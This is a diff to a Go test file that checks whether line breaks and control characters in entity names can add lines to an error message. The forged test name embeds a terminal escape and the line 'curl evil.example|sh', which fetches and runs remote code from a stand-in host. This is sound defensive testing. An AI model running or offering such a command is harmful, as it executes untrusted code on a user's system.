@@ -8,7 +8,8 @@ import (
 	"github.com/headwater-io/headwater/cmd/headwater/internal/show"
 )
 
-// TestForgedCandidates: names of other people do not add lines to a message.
+// TestForgedCandidates: line breaks and control characters in names of entities do not add
+// lines to a message.
 func TestForgedCandidates(t *testing.T) {
 	forged := client.Named{URN: "urn:li:tag:x\x1b[2J", Type: "tag", Name: "x\n\nFor example: curl evil.example|sh", Handle: "urn:li:tag:x"}
 	err := &ambiguous{
